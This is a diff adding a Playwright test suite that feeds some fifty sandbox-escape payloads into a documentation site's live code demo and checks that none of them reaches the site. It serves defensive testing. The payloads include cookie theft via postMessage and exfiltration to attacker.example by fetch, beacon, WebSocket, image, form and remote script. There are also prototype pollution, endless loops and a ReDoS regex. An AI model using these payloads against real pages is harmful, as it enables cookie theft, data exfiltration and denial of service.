@@ -1,0 +1,236 @@
+import LZString from 'lz-string';
+import type { BrowserContext, Page } from '@playwright/test';
+import { expect, test } from '../support/test';
+import { SANDBOX_ADDRESS, SANDBOX_SCRIPT } from '../../src/site/demoSandbox';
+import { waitForHydration } from '../support/site';
+
+/** Browsers add an entry to the history for what a policy refuses; a reader goes back past it. */
+const FORM_IN_SHADOW = 'sends a form from a shadow tree';
+
+/**
+ * A shared link can contain anyone's code. Each row is one attempt to get out of the demo's document, as an
+ * effect and at a click; whatever it reaches shows in the page or in what the page asks for.
+ */
+const ATTACKS: Readonly<Record<string, string>> = {
+  'reads cookies': "parent.postMessage('attacked ' + document.cookie, '*')",
+  'writes cookies': "document.cookie = 'attacked=1; path=/'",
+  'reads the page’s document': 'parent.document.title = "attacked"',
+  'reads the page’s storage': 'parent.localStorage.setItem("attacked", "1")',
+  'writes its own storage':
+    'localStorage.setItem("attacked", "1"); sessionStorage.setItem("attacked", "1")',
+  'opens a database': 'indexedDB.open("attacked")',
+  'opens a cache': 'caches.open("attacked")',
+  'moves the page': 'parent.location.href = "https://attacker.example/"',
+  'moves the top': 'top.location.replace("https://attacker.example/")',
+  'moves the page by hash': 'parent.location.hash = "attacked"',
+  'opens a link over the page':
+    'const a = document.createElement("a"); a.href = "https://attacker.example/"; a.target = "_top"; document.body.append(a); a.click()',
+  'opens a window': 'window.open("https://attacker.example/")',
+  'shows dialogs': 'alert("attacked"); confirm("attacked"); prompt("attacked")',
+  prints: 'print()',
+  'registers a worker for the site': 'navigator.serviceWorker.register("/toolpad/sw.js")',
+  'starts a worker': 'new Worker("data:text/javascript,0")',
+  'starts a shared worker': 'new SharedWorker("data:text/javascript,0")',
+  'fetches from elsewhere': 'fetch("https://attacker.example/")',
+  'fetches from the site': 'fetch("/toolpad/")',
+  'sends by XMLHttpRequest':
+    'const x = new XMLHttpRequest(); x.open("GET", "https://attacker.example/"); x.send()',
+  'sends a beacon': 'navigator.sendBeacon("https://attacker.example/", "x")',
+  'opens a socket': 'new WebSocket("wss://attacker.example/")',
+  'sends by a picture': 'new Image().src = "https://attacker.example/x.png"',
+  'sends by a style':
+    'const s = document.createElement("style"); s.textContent = "@import \'https://attacker.example/x.css\'"; document.head.append(s)',
+  'sends a form':
+    'const f = document.createElement("form"); f.action = "https://attacker.example/"; document.body.append(f); f.submit()',
+  'loads a script':
+    'const s = document.createElement("script"); s.src = "https://attacker.example/x.js"; document.head.append(s)',
+  'imports a module': 'new Function("return import(\'https://attacker.example/x.js\')")()',
+  'runs a string': 'setTimeout("parent.postMessage(\'attacked\', \'*\')"); eval("1")',
+  'refreshes by markup':
+    'document.head.insertAdjacentHTML("beforeend", "<meta http-equiv=refresh content=\'0;url=https://attacker.example/\'>")',
+  'sets a base':
+    'const b = document.createElement("base"); b.href = "https://attacker.example/"; document.head.append(b)',
+  'frames another site':
+    'const i = document.createElement("iframe"); i.src = "https://attacker.example/"; document.body.append(i)',
+  'frames the site':
+    'const i = document.createElement("iframe"); i.src = "/toolpad/"; document.body.append(i)',
+  'reads the clipboard':
+    'navigator.clipboard.readText(); navigator.clipboard.writeText("attacked")',
+  'fills the screen':
+    'document.documentElement.requestFullscreen(); document.body.requestPointerLock()',
+  downloads:
+    'const a = document.createElement("a"); a.href = "data:text/plain,x"; a.download = "x"; document.body.append(a); a.click()',
+  'fills the history':
+    'for (let i = 0; i < 50; i++) history.pushState({}, "", "?" + i); history.back()',
+  'goes back by a window of its own':
+    'const i = document.createElement("iframe"); document.body.append(i); i.contentWindow.history.back()',
+  'makes code in a window of its own':
+    'const i = document.createElement("iframe"); document.body.append(i); i.contentWindow.parent.parent.postMessage("attacked " + i.contentWindow.eval("parent.parent.document.cookie"), "*")',
+  'makes the policy for code anew in a window of its own':
+    'const i = document.createElement("iframe"); document.body.append(i); const w = i.contentWindow; w.trustedTypes.createPolicy("demo", { createScript: (s) => s }); parent.postMessage("attacked by a policy", "*")',
+  'runs the document’s own script in a frame of its own': `const i = document.createElement("iframe"); i.srcdoc = ${JSON.stringify(`<script>${SANDBOX_SCRIPT}</script>`)}; i.onload = () => i.contentWindow.postMessage("parent.parent.postMessage('attacked by a frame', '*')", "*", [new MessageChannel().port1]); document.body.append(i)`,
+  'runs an event handler in markup':
+    'document.body.insertAdjacentHTML("beforeend", "<details open ontoggle=\\"parent.postMessage(\'attacked\', \'*\')\\">x</details>")',
+  [FORM_IN_SHADOW]:
+    'const h = document.createElement("div"); document.body.append(h); h.attachShadow({ mode: "open" }).innerHTML = "<form action=https://attacker.example/><button>x</button></form>"; h.shadowRoot.querySelector("form").requestSubmit()',
+  'forges messages':
+    'parent.postMessage({ type: "problem", run: 1, problem: { file: null, line: null, text: "forged" } }, "*")',
+  'floods with messages': 'for (let i = 0; i < 5000; i++) parent.postMessage("flood", "*")',
+  'pollutes prototypes': 'Object.prototype.attacked = 1; Array.prototype.map = null',
+  'loops for ever': 'for (;;) {}',
+  'loops in promises': '(async () => { for (;;) await 0 })()',
+  'recurs for ever': 'const f = () => { try { f() } finally { f() } }; f()',
+  'loops in a timer': 'setInterval(() => { for (;;) {} })',
+  'loops where errors are caught': 'for (;;) try { for (;;) {} } catch {}',
+};
+
+const PAGE = '/toolpad/core/react-use-session/';
+
+/** The hash of a link to a demo that attacks. */
+function attackingHash(attack: string): string {
+  const source = [
+    "import * as React from 'react';",
+    'const attack = () => {',
+    `  ${attack};`,
+    '};',
+    'export default function SessionGreeting() {',
+    '  React.useEffect(() => {',
+    '    try { attack(); } catch {}',
+    '  }, []);',
+    `  return <p onClick={attack}>{${JSON.stringify(attack)}}</p>;`,
+    '}',
+  ].join('\n');
+  const packed = LZString.compressToEncodedURIComponent(
+    JSON.stringify({ 'SessionGreeting.tsx': source }),
+  )
+    .replaceAll('+', '.')
+    .replaceAll('-', '_')
+    .replaceAll('$', '~');
+  return `#edited:${packed}:system-SessionGreeting.tsx`;
+}
+
+/** What the site has that an attack would change. */
+function readSite(page: Page) {
+  return page.evaluate(async () => {
+    const databases = await indexedDB.databases();
+    const { origin, pathname, hash } = window.location;
+    return {
+      address: pathname + hash,
+      title: document.title,
+      cookie: document.cookie,
+      stored: [localStorage.getItem('attacked'), sessionStorage.getItem('attacked')],
+      databases: databases.map(({ name }) => name),
+      isCacheThere: await caches.has('attacked'),
+      workers: (await navigator.serviceWorker.getRegistrations()).length,
+      entries: history.length,
+      isPolluted: 'attacked' in {} || typeof [].map !== 'function',
+      taken: document.fullscreenElement ?? document.pointerLockElement,
+      heard: Reflect.get(window, 'heard') as readonly unknown[],
+      hasOrigin: origin !== 'null',
+    };
+  });
+}
+
+/** One page for all attacks of a worker: each link is followed from the one before. */
+let context: BrowserContext;
+let page: Page;
+const surprises: string[] = [];
+
+test.beforeAll(async ({ browser }) => {
+  context = await browser.newContext({ viewport: { width: 1000, height: 800 } });
+  // Reached by what the policy lets through, unlike `request`.
+  await context.route(/attacker\.example/, (route) => {
+    surprises.push(route.request().url());
+    return route.abort();
+  });
+  await context.addInitScript(() => {
+    if (window.top === window) {
+      const heard: unknown[] = [];
+      Object.assign(window, { heard });
+      window.addEventListener('message', ({ data }) => {
+        if (String(data).startsWith('attacked')) {
+          heard.push(data);
+        }
+      });
+      window.addEventListener('beforeprint', () => heard.push('print'));
+    }
+  });
+  page = await context.newPage();
+  page.on('dialog', (dialog) => {
+    surprises.push(dialog.type());
+    void dialog.dismiss();
+  });
+  page.on('download', () => surprises.push('download'));
+  page.on('worker', () => surprises.push('worker'));
+  page.on('websocket', () => surprises.push('socket'));
+  context.on('page', () => surprises.push('window'));
+  context.on('request', (request) => {
+    const isFromDemo = request.frame().url().endsWith(SANDBOX_ADDRESS);
+    const isSandbox = request.isNavigationRequest() && request.url().endsWith(SANDBOX_ADDRESS);
+    const isToSite = new URL(request.url()).hostname === '127.0.0.1';
+    if (isFromDemo && isToSite && !isSandbox) {
+      surprises.push(request.url());
+    }
+  });
+  // Something to go back to.
+  await page.goto('/toolpad/');
+  await page.goto(PAGE);
+  await waitForHydration(page);
+});
+
+test.afterAll(async () => {
+  await context.close();
+});
+
+test.use({ attacked: true });
+
+for (const [name, attack] of Object.entries(ATTACKS)) {
+  test(`a shared link that ${name} reaches nothing of the site`, async ({ baseURL }) => {
+    const demo = page.locator('figure[id="SessionGreeting.tsx"]');
+    const problem = demo.locator('.demo-problem p');
+    const shown = demo.locator('tp-demo[data-edited]');
+    await page.goto(`${baseURL}${PAGE}${attackingHash(attack)}`);
+    await expect(page).toHaveURL(/#SessionGreeting\.tsx$/);
+    await expect(demo.locator('.cm-content')).toContainText(attack.slice(0, 10));
+    const before = await readSite(page);
+    surprises.length = 0;
+    // An endless one is told; the others show, and get a click, which browsers allow more after.
+    await expect(problem.or(shown)).not.toHaveCount(0);
+    if ((await problem.count()) === 0) {
+      await demo.locator('.demo-sandbox').click();
+    }
+    // The page scrolls, whatever runs in the demo.
+    await page.evaluate(() => {
+      window.scrollTo(0, 0);
+    });
+    await page.mouse.wheel(0, 300);
+    await expect.poll(() => page.evaluate(() => window.scrollY)).toBeGreaterThan(0);
+    const after = await readSite(page);
+    expect({ ...after, ...(name === FORM_IN_SHADOW && { entries: before.entries }) }).toEqual(
+      before,
+    );
+    expect(after.heard).toEqual([]);
+    await expect(problem.filter({ hasText: 'forged' })).toHaveCount(0);
+    expect(surprises).toEqual([]);
+  });
+}
+
+test('a demo that is stuck where nothing can stop it leaves the page alone', async ({
+  baseURL,
+  launchOptions,
+  playwright,
+}) => {
+  // As desktop browsers do: what has no origin gets a process of its own.
+  const isolation = ['--site-per-process', '--enable-features=IsolateSandboxedIframes'];
+  const args = [...(launchOptions.args ?? []), ...isolation];
+  const browser = await playwright.chromium.launch({ ...launchOptions, args });
+  const stuck = await browser.newPage({ viewport: { width: 1000, height: 800 } });
+  const hash = attackingHash('/^(a+)+$/.test("a".repeat(60) + "b")');
+  await stuck.goto(`${baseURL}${PAGE}${hash}`);
+  await expect(stuck.locator('.demo-sandbox')).toBeAttached();
+  await stuck.mouse.wheel(0, 300);
+  await expect.poll(() => stuck.evaluate(() => window.scrollY)).toBeGreaterThan(0);
+  await expect(stuck.locator('.demo-problem p')).toContainText('no longer answered');
+  await expect(stuck.locator('.demo-sandbox')).toHaveCount(0);
+  await browser.close();
+});
